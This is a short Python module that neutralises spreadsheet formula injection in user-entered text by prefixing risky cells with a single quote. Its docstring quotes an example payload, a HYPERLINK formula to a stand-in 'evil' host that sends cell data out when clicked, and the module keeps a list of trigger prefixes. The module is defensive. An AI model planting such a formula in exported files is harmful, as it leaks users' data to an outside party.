"""Text written into a document by its users, made safe for spreadsheet programs.

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or a carriage return) as a formula: a reason for deviation
such as ``=HYPERLINK("https://evil/?"&B12,"see")`` would send the sheet's figures away
when clicked ("formula injection", OWASP's "CSV injection").
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# OWASP's remedy for delimited files: a leading single quote, which spreadsheet programs
# read as "this cell is text" and do not show.
TEXT_MARK = "'"


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def inert(text: str) -> str:
    """The text with a leading single quote when a spreadsheet program would run it."""
    return TEXT_MARK + text if looks_like_formula(text) else text
